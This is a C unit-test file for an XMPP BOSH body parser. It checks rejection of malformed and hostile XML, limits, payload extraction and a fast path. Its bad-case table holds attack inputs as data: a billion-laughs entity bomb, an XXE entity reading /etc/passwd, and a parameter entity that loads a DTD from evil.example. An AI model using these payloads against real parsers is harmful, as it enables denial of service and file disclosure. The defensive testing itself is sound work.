#include "body.h"
#include "../body_compare.h"
#include "check.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define NS     "xmlns='http://jabber.org/protocol/httpbind'"
#define OPEN   "<body " NS ">"
#define XBOSH  "xmlns:xmpp='urn:xmpp:xbosh'"

/* Length-carrying strings: several cases contain NUL or stray bytes. */
#define S(lit) lit, sizeof(lit) - 1

struct bad_case {
	const char *name;
	const char *data;
	size_t len;
	const char *want; /* substring of err, or NULL for "any reason" */
};

static const struct bad_case bad_cases[] = {
	{ "doctype", S("<!DOCTYPE body><body " NS "/>"), "DOCTYPE" },
	{ "doctype internal subset", S("<!DOCTYPE body [<!ELEMENT body ANY>]><body " NS "/>"), "DOCTYPE" },
	{ "billion laughs", S("<?xml version='1.0'?>\n<!DOCTYPE lolz [\n"
	                      " <!ENTITY lol 'lol'>\n"
	                      " <!ENTITY lol2 '&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;'>\n"
	                      " <!ENTITY lol3 '&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'>\n"
	                      "]>\n<body " NS ">&lol3;</body>"), "DOCTYPE" },
	{ "external entity", S("<!DOCTYPE body [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>"
	                       "<body " NS "><a>&xxe;</a></body>"), "DOCTYPE" },
	{ "parameter entity", S("<!DOCTYPE body [<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]>"
	                        "<body " NS "/>"), "DOCTYPE" },
	{ "undeclared entity", S(OPEN "<a>&xxe;</a></body>"), "undefined entity" },
	{ "pi in body", S(OPEN "<?foo bar?></body>"), "processing instruction" },
	{ "pi in stanza", S(OPEN "<a><?foo bar?></a></body>"), "processing instruction" },
	{ "pi before root", S("<?foo bar?><body " NS "/>"), "processing instruction" },
	{ "comment in body", S(OPEN "<!-- hi --></body>"), "comment" },
	{ "comment in stanza", S(OPEN "<a><!-- hi --></a></body>"), "comment" },
	{ "comment after root", S("<body " NS "/><!-- hi -->"), "comment" },
	{ "utf8 lone ff", S(OPEN "<a>\xFF</a></body>"), "invalid token" },
	{ "utf8 overlong c0 af", S(OPEN "<a>\xC0\xAF</a></body>"), "invalid token" },
	{ "utf8 overlong e0 80 af", S(OPEN "<a>\xE0\x80\xAF</a></body>"), "invalid token" },
	{ "utf8 truncated", S(OPEN "<a>\xE2\x82</a></body>"), "invalid token" },
	{ "utf8 truncated at end", S(OPEN "<a>\xE2\x82"), "partial character" },
	{ "utf8 surrogate", S(OPEN "<a>\xED\xA0\x80</a></body>"), "invalid token" },
	{ "utf8 above U+10FFFF", S(OPEN "<a>\xF4\x90\x80\x80</a></body>"), "invalid token" },
	{ "utf8 noncharacter fffe", S(OPEN "<a>\xEF\xBF\xBE</a></body>"), "invalid token" },
	{ "utf8 in attribute", S("<body " NS " to='\xC0\xAF'/>"), "invalid token" },
	{ "nul byte", S(OPEN "<a>\0</a></body>"), "invalid token" },
	{ "control char", S(OPEN "<a>\x01</a></body>"), "invalid token" },
	/* If the declaration were honoured, \xE9 would be a valid "é". */
	{ "latin1 declaration ignored", S("<?xml version='1.0' encoding='ISO-8859-1'?>"
	                                  "<body " NS " to='caf\xE9'/>"), "invalid token" },
	{ "xml declaration not first", S(" <?xml version='1.0'?><body " NS "/>"), "not at start" },
	{ "wrong root name", S("<bodyx " NS "/>"), "root element is not <body/>" },
	{ "wrong namespace", S("<body xmlns='jabber:client'/>"), "root element is not <body/>" },
	{ "no namespace", S("<body/>"), "root element is not <body/>" },
	{ "stanza as root", S("<message xmlns='jabber:client'/>"), "root element is not <body/>" },
	{ "text in body", S(OPEN "hello</body>"), "text directly inside" },
	{ "text after stanza", S(OPEN "<presence/> x </body>"), "text directly inside" },
	{ "entity text in body", S(OPEN "&amp;</body>"), "text directly inside" },
	{ "char ref space in body", S(OPEN "&#32;</body>"), "text directly inside" },
	{ "cdata in body", S(OPEN "<![CDATA[ ]]></body>"), "CDATA" },
	{ "junk after root", S("<body " NS "/>junk"), "junk after document element" },
	{ "element after root", S("<body " NS "/><presence/>"), "junk after document element" },
	{ "second body", S("<body " NS "/><body " NS "/>"), "junk after document element" },
	{ "truncated in stanza", S(OPEN "<presence/><message><body>hi"), "no element found" },
	{ "truncated start tag", S("<body " NS), "unclosed token" },
	{ "truncated no end tag", S(OPEN), "no element found" },
	{ "whitespace only", S("  \n"), "no element found" },
	{ "mismatched tag", S(OPEN "<a></b></body>"), "mismatched tag" },
	{ "unbound prefix", S("<body " NS " foo:bar='1'/>"), "unbound prefix" },
	/* Two prefixes for one URI: body_attr() would otherwise be ambiguous. */
	{ "duplicate expanded attribute", S("<body " NS " xmlns:x='urn:xmpp:xbosh' xmlns:y='urn:xmpp:xbosh'"
	                                    " x:restart='true' y:restart='false'/>"), "duplicate attribute" },
};

static void check_rejected(const char *name, const char *data, size_t len, const char *want)
{
	struct body b;
	char err[256];
	int r;

	strcpy(err, "");
	r = body_parse(data, len, &b, err, sizeof err);
	if (r != -1 || err[0] == '\0' || (want && !strstr(err, want)))
		fprintf(stderr, "case \"%s\": r=%d err=\"%s\" want \"%s\"\n", name, r, err,
		        want ? want : "(any)");
	CHECK(r == -1);
	CHECK(err[0] != '\0');
	if (want)
		CHECK(strstr(err, want) != NULL);
	CHECK(b.attrs == NULL && b.nattrs == 0 && b.payload == NULL && b.payload_len == 0);
	body_free(&b);
}

static void test_bad_table(void)
{
	for (size_t i = 0; i < sizeof bad_cases / sizeof bad_cases[0]; i++)
		check_rejected(bad_cases[i].name, bad_cases[i].data, bad_cases[i].len, bad_cases[i].want);
}

static void test_empty(void)
{
	check_rejected("empty", "", 0, "empty");
	check_rejected("null", NULL, 0, "empty");
}

/* --- Generated documents for the limits --- */

struct sbuf {
	char *s;
	size_t len, cap;
};

static void put(struct sbuf *b, const char *s)
{
	size_t n = strlen(s);

	if (b->len + n + 1 > b->cap) {
		b->cap = (b->len + n + 1) * 2;
		b->s = realloc(b->s, b->cap);
		if (!b->s)
			abort();
	}
	memcpy(b->s + b->len, s, n + 1);
	b->len += n;
}

static void put_n(struct sbuf *b, char c, size_t n)
{
	char chunk[2] = { c, '\0' };

	for (size_t i = 0; i < n; i++)
		put(b, chunk);
}

static struct sbuf nested(int depth)
{
	struct sbuf b = { 0 };

	put(&b, OPEN);
	for (int i = 1; i < depth; i++)
		put(&b, "<a>");
	for (int i = 1; i < depth; i++)
		put(&b, "</a>");
	put(&b, "</body>");
	return b;
}

/* nattrs attributes a0..aN on body itself, or on a payload element. */
static struct sbuf many_attrs(int nattrs, int on_body)
{
	struct sbuf b = { 0 };
	char a[32];

	put(&b, on_body ? "<body " NS : OPEN "<a");
	for (int i = 0; i < nattrs; i++) {
		snprintf(a, sizeof a, " a%d='v'", i);
		put(&b, a);
	}
	put(&b, on_body ? "/>" : "/></body>");
	return b;
}

static struct sbuf many_nsdecls(int ndecls)
{
	struct sbuf b = { 0 };
	char a[48];

	put(&b, OPEN "<a");
	for (int i = 0; i < ndecls; i++) {
		snprintf(a, sizeof a, " xmlns:p%d='urn:p%d'", i, i);
		put(&b, a);
	}
	put(&b, "/></body>");
	return b;
}

static struct sbuf long_value(size_t vlen, int on_body)
{
	struct sbuf b = { 0 };

	put(&b, on_body ? "<body " NS " to='" : OPEN "<a to='");
	put_n(&b, 'x', vlen);
	put(&b, on_body ? "'/>" : "'/></body>");
	return b;
}

static struct sbuf long_nsuri(size_t ulen)
{
	struct sbuf b = { 0 };

	put(&b, OPEN "<a xmlns:p='urn:");
	put_n(&b, 'x', ulen - 4);
	put(&b, "'/></body>");
	return b;
}

/* A complete, well-formed UTF-16 <body/>: expat would parse it as such
 * despite the forced UTF-8, so body_parse must refuse it itself. */
static struct sbuf utf16(int big_endian, int bom)
{
	static const char doc[] = "<body " NS " rid='1'><presence xmlns='jabber:client'/></body>";
	struct sbuf b = { 0 };

	b.cap = 2 * sizeof doc + 2;
	b.s = malloc(b.cap);
	if (!b.s)
		abort();
	if (bom) {
		b.s[b.len++] = (char)(big_endian ? 0xFE : 0xFF);
		b.s[b.len++] = (char)(big_endian ? 0xFF : 0xFE);
	}
	for (const char *p = doc; *p; p++) {
		b.s[b.len++] = big_endian ? '\0' : *p;
		b.s[b.len++] = big_endian ? *p : '\0';
	}
	return b;
}

static void test_utf16(void)
{
	static const char *const names[] = { "utf16le", "utf16be", "utf16le bom", "utf16be bom" };

	for (int i = 0; i < 4; i++) {
		struct sbuf b = utf16(i & 1, i >> 1);
		check_rejected(names[i], b.s, b.len, "not UTF-8");
		free(b.s);
	}
	check_rejected("lone ff", S("\xFF"), NULL);
	check_rejected("nul then body", S("\0<body " NS "/>"), "not UTF-8");
}

static void check_accepted(const char *name, struct sbuf b)
{
	struct body out;
	char err[256] = "";
	int r = body_parse(b.s, b.len, &out, err, sizeof err);

	if (r != 0)
		fprintf(stderr, "case \"%s\": unexpected error \"%s\"\n", name, err);
	CHECK(r == 0);
	body_free(&out);
	free(b.s);
}

static void check_limit(const char *name, struct sbuf ok, struct sbuf bad, const char *want)
{
	check_accepted(name, ok);
	check_rejected(name, bad.s, bad.len, want);
	free(bad.s);
}

static void test_limits(void)
{
	check_limit("depth", nested(BODY_MAX_DEPTH), nested(BODY_MAX_DEPTH + 1), "nesting deeper than 32");
	check_limit("attrs on body", many_attrs(BODY_MAX_ATTRS, 1), many_attrs(BODY_MAX_ATTRS + 1, 1),
	            "more than 32 attributes");
	check_limit("attrs on stanza", many_attrs(BODY_MAX_ATTRS, 0), many_attrs(BODY_MAX_ATTRS + 1, 0),
	            "more than 32 attributes");
	check_limit("nsdecls", many_nsdecls(BODY_MAX_ATTRS), many_nsdecls(BODY_MAX_ATTRS + 1),
	            "more than 32 namespace declarations");
	check_limit("value on body", long_value(BODY_MAX_ATTR_LEN, 1), long_value(BODY_MAX_ATTR_LEN + 1, 1),
	            "attribute value longer than 4096 bytes");
	check_limit("value on stanza", long_value(BODY_MAX_ATTR_LEN, 0), long_value(BODY_MAX_ATTR_LEN + 1, 0),
	            "attribute value longer than 4096 bytes");
	check_limit("namespace uri", long_nsuri(BODY_MAX_ATTR_LEN), long_nsuri(BODY_MAX_ATTR_LEN + 1),
	            "namespace URI longer than 4096 bytes");
}

/* --- Accepted documents --- */

static int parse_ok(const char *data, size_t len, struct body *b)
{
	char err[256] = "";
	int r = body_parse(data, len, b, err, sizeof err);

	if (r != 0)
		fprintf(stderr, "unexpected error \"%s\" for: %.*s\n", err, (int)len, data);
	return r;
}

static void test_session_create(void)
{
	static const char doc[] =
		"<body content='text/xml; charset=utf-8'\n"
		"      hold='1'\n"
		"      rid='1573741820'\n"
		"      to='example.com'\n"
		"      route='xmpp:example.com:9999'\n"
		"      ver='1.6'\n"
		"      wait='60'\n"
		"      from='a&amp;b@example.com'\n"
		"      xml:lang='en'\n"
		"      xmpp:version='1.0'\n"
		"      " NS "\n"
		"      " XBOSH "/>";
	struct body b;

	CHECK(parse_ok(S(doc), &b) == 0);
	CHECK(b.nattrs == 10);
	CHECK_STR(body_attr(&b, "to"), "example.com");
	CHECK_STR(body_attr(&b, "rid"), "1573741820");
	CHECK_STR(body_attr(&b, "wait"), "60");
	CHECK_STR(body_attr(&b, "hold"), "1");
	CHECK_STR(body_attr(&b, "ver"), "1.6");
	CHECK_STR(body_attr(&b, "content"), "text/xml; charset=utf-8");
	CHECK_STR(body_attr(&b, "from"), "a&b@example.com");
	CHECK_STR(body_attr(&b, "xml:lang"), "en");
	CHECK_STR(body_attr(&b, "xmpp:version"), "1.0");
	CHECK(body_attr(&b, "lang") == NULL);
	CHECK(body_attr(&b, "version") == NULL);
	CHECK(body_attr(&b, "xmlns") == NULL);
	CHECK(body_attr(&b, "xmlns:xmpp") == NULL);
	CHECK(body_attr(&b, "sid") == NULL);
	CHECK(b.payload_len == 0);
	CHECK_STR(b.attrs[0].name, "content");
	CHECK_STR(b.attrs[9].name, "xmpp:version");
	body_free(&b);
	CHECK(b.attrs == NULL && b.nattrs == 0 && b.payload == NULL);
}

static void test_attr_names(void)
{
	struct body b;

	CHECK(parse_ok(S("<body " NS " xmlns:x='urn:xmpp:xbosh' x:restart='true' x:restartlogic='true'/>"), &b) == 0);
	CHECK_STR(body_attr(&b, "xmpp:restart"), "true");
	CHECK_STR(body_attr(&b, "xmpp:restartlogic"), "true");
	CHECK(body_attr(&b, "x:restart") == NULL);
	body_free(&b);

	/* The prefix "xmpp" means nothing by itself; the URI decides. */
	CHECK(parse_ok(S("<body " NS " xmlns:xmpp='urn:evil' xmpp:version='1.0'/>"), &b) == 0);
	CHECK(body_attr(&b, "xmpp:version") == NULL);
	CHECK_STR(body_attr(&b, "{urn:evil}version"), "1.0");
	body_free(&b);

	CHECK(parse_ok(S("<body " NS " xmlns:f='urn:foo' f:bar='1' baz='2'/>"), &b) == 0);
	CHECK(b.nattrs == 2);
	CHECK_STR(b.attrs[0].name, "{urn:foo}bar");
	CHECK_STR(b.attrs[0].value, "1");
	CHECK_STR(b.attrs[1].name, "baz");
	body_free(&b);

	/* Values are decoded and normalized as XML says. */
	CHECK(parse_ok(S("<body " NS " a='&lt;&#x263A;&gt;' b=\"it's\" c='x\ny'/>"), &b) == 0);
	CHECK_STR(body_attr(&b, "a"), "<\xE2\x98\xBA>");
	CHECK_STR(body_attr(&b, "b"), "it's");
	CHECK_STR(body_attr(&b, "c"), "x y");
	body_free(&b);
}

static void check_payload(const char *name, const char *doc, size_t len, const char *want)
{
	struct body b;

	if (parse_ok(doc, len, &b) != 0) {
		fprintf(stderr, "case \"%s\" failed to parse\n", name);
		CHECK(0);
		return;
	}
	CHECK(b.payload >= doc && b.payload + b.payload_len <= doc + len);
	CHECK_MEM(b.payload, b.payload_len, want);
	body_free(&b);
}

#define STANZA1 "<message to='a@example.com' xmlns='jabber:client'><body>hi</body></message>"
#define STANZA2 "<presence xmlns='jabber:client'/>"
#define CDATA_STANZA "<message xmlns='jabber:client'><body><![CDATA[a<b & c]]> &lt;3 &amp; &#x263A;</body></message>"
#define UTF8_STANZA "<message xmlns='jabber:client'><body>caf\xC3\xA9 \xF0\x9F\x98\x80</body></message>"

static void test_payload(void)
{
	check_payload("two stanzas", S(OPEN "\n  " STANZA1 "\n\t " STANZA2 "\n</body>"),
	              "\n  " STANZA1 "\n\t " STANZA2 "\n");
	check_payload("verbatim cdata and entities", S(OPEN CDATA_STANZA "</body>"), CDATA_STANZA);
	check_payload("multibyte utf-8", S("<body " NS " to='\xC3\xA9'>" UTF8_STANZA "</body>"), UTF8_STANZA);
	check_payload("crlf kept", S(OPEN "\r\n" STANZA2 "\r\n</body>"), "\r\n" STANZA2 "\r\n");
	check_payload("whitespace only", S(OPEN " \n\t</body>"), " \n\t");
	check_payload("empty element", S("<body " NS " rid='1'/>"), "");
	check_payload("empty element spaced", S("<body " NS " rid='1' />"), "");
	check_payload("start and end tag", S("<body " NS " rid='1'></body>"), "");
	check_payload("end tag with space", S(OPEN STANZA2 "</body  >"), STANZA2);
	check_payload("gt in attribute", S("<body " NS " a='>'>" STANZA2 "</body>"), STANZA2);
	check_payload("prefixed body", S("<hb:body xmlns:hb='http://jabber.org/protocol/httpbind'>"
	                                 STANZA2 "</hb:body>"), STANZA2);
	check_payload("xml declaration", S("<?xml version='1.0' encoding='utf-8'?>\n" OPEN STANZA2 "</body>"),
	              STANZA2);
	check_payload("utf-8 bom", S("\xEF\xBB\xBF" OPEN STANZA2 "</body>"), STANZA2);
	check_payload("trailing whitespace", S(OPEN STANZA2 "</body>\r\n  "), STANZA2);
	check_payload("nested body name", S(OPEN "<body>" STANZA2 "</body></body>"), "<body>" STANZA2 "</body>");
}

/* The declared encoding must not change decoding: UTF-8 "é" stays
 * C3 A9 rather than becoming "Ã©". */
static void test_declared_encoding_ignored(void)
{
	struct body b;

	CHECK(parse_ok(S("<?xml version='1.0' encoding='ISO-8859-1'?><body " NS " to='caf\xC3\xA9'/>"), &b) == 0);
	CHECK_STR(body_attr(&b, "to"), "caf\xC3\xA9");
	body_free(&b);
}

static void test_err_buffer(void)
{
	struct body b;
	char small[8];

	memset(small, 'z', sizeof small);
	CHECK(body_parse(S("<x/>"), &b, small, sizeof small) == -1);
	CHECK(strlen(small) == sizeof small - 1);
	CHECK(body_parse(S("<x/>"), &b, NULL, 0) == -1);
	CHECK(body_parse(S("<x/>"), &b, small, 0) == -1);
}

static void test_free(void)
{
	struct body b;

	memset(&b, 0, sizeof b);
	body_free(&b);
	CHECK(b.attrs == NULL && b.nattrs == 0);
	body_free(NULL);
	CHECK(body_attr(&b, "rid") == NULL);
	CHECK(body_attr(NULL, "rid") == NULL);

	CHECK(parse_ok(S("<body " NS " rid='7'/>"), &b) == 0);
	body_free(&b);
	body_free(&b); /* zeroed by the first call */
	CHECK(b.attrs == NULL && b.nattrs == 0);
}

/* ---- the fast path: the same answer as expat's, for what it takes and
 * for what it leaves to expat ---- */

/* want_fast: whether the fast path should take it */
static void both_ways(const char *in, size_t len, int want_ok, int want_fast)
{
	struct body f, e;
	char err[256];
	unsigned long before = body_fast_parses();
	int rf = body_parse(in, len, &f, err, sizeof err);
	int took = body_fast_parses() != before;
	body_fast_path(0);
	int re = body_parse(in, len, &e, err, sizeof err);
	body_fast_path(1);
	CHECK(rf == re && (rf == 0) == want_ok && took == want_fast);
	CHECK(rf != 0 || body_same(&f, &e));
	if (rf != re || (rf == 0) != want_ok || took != want_fast || (rf == 0 && !body_same(&f, &e)))
		fprintf(stderr, "  input: %.*s (fast %d took %d, expat %d)\n", (int)len, in, rf, took, re);
	body_free(&f);
	body_free(&e);
}

static void test_fast_path(void)
{
	/* taken */
	both_ways(S("<body rid='1' sid='abc' " NS "/>"), 1, 1);
	both_ways(S("<body rid=\"2\" " NS " sid='s'>  <message to='a@b' xmlns='jabber:client'><body>hi</body>"
	            "</message>\r\n<presence xmlns='jabber:client'/> </body>\n"), 1, 1);
	both_ways(S(" \n<body " NS " rid='3' xml:lang='en' to='a&amp;b' route='x&lt;y&gt;&quot;&apos;'></body >"), 1, 1);
	both_ways(S(OPEN "<message><body>caf\xc3\xa9 &amp; ]]</body></message></body>"), 1, 1);
	both_ways(S("<body " NS " type='terminate' rid='9'><presence type='unavailable' xmlns='jabber:client'/></body>"),
	          1, 1);
	/* left to expat, and accepted */
	both_ways(S("<?xml version='1.0'?><body " NS " rid='4'/>"), 1, 0);
	both_ways(S("<body " NS " " XBOSH " xmpp:version='1.0' rid='5'/>"), 1, 0);
	both_ways(S("<body " NS " rid='6' to='a\tb'/>"), 1, 0);
	both_ways(S(OPEN "<message><body>&#65;</body></message></body>"), 1, 0);
	both_ways(S("<b:body xmlns:b='http://jabber.org/protocol/httpbind' rid='7'/>"), 1, 0);
	both_ways(S("\xef\xbb\xbf<body " NS "/>"), 1, 0);
	/* refused by both */
	both_ways(S("<body rid='1'/>"), 0, 0);
	both_ways(S("<body xmlns='urn:other' rid='1'/>"), 0, 0);
	both_ways(S("<bodyx " NS "/>"), 0, 0);
	both_ways(S(OPEN "text</body>"), 0, 0);
	both_ways(S(OPEN "<a></b></body>"), 0, 0);
	both_ways(S(OPEN "</body><body " NS "/>"), 0, 0);
	both_ways(S(OPEN "<a/>"), 0, 0);
	both_ways(S("<body " NS " rid='1' rid='2'/>"), 0, 0);
	both_ways(S(OPEN "<a b='1' b='2'/></body>"), 0, 0);
	both_ways(S(OPEN "<a>x]]>y</a></body>"), 0, 0);
	both_ways(S(OPEN "<a>\xed\xa0\x80</a></body>"), 0, 0);
	both_ways(S(OPEN "</bodyx>"), 0, 0);
	both_ways(S("<body " NS "/>x"), 0, 0);
	both_ways(S("<body " NS " rid='<'/>"), 0, 0);
	/* limits: a value past BODY_MAX_ATTR_LEN, nesting past BODY_MAX_DEPTH */
	static char big[BODY_MAX_ATTR_LEN + 128], deep[BODY_MAX_DEPTH * 8 + 64];
	for (int over = 0; over <= 1; over++) {
		int n = snprintf(big, sizeof big, OPEN "<a v='%0*d'/></body>", BODY_MAX_ATTR_LEN + over, 0);
		both_ways(big, (size_t)n, !over, !over);
		n = snprintf(big, sizeof big, "<body " NS " v='%0*d'/>", BODY_MAX_ATTR_LEN + over, 0);
		both_ways(big, (size_t)n, !over, !over);
		size_t o = (size_t)snprintf(deep, sizeof deep, OPEN);
		for (int i = 0; i < BODY_MAX_DEPTH - 1 + over; i++)
			o += (size_t)snprintf(deep + o, sizeof deep - o, "<a>");
		for (int i = 0; i < BODY_MAX_DEPTH - 1 + over; i++)
			o += (size_t)snprintf(deep + o, sizeof deep - o, "</a>");
		o += (size_t)snprintf(deep + o, sizeof deep - o, "</body>");
		both_ways(deep, o, !over, !over);
	}
}

int main(void)
{
	test_bad_table();
	test_empty();
	test_limits();
	test_utf16();
	test_session_create();
	test_attr_names();
	test_payload();
	test_declared_encoding_ignored();
	test_err_buffer();
	test_free();
	test_fast_path();
	return check_summary("body");
}
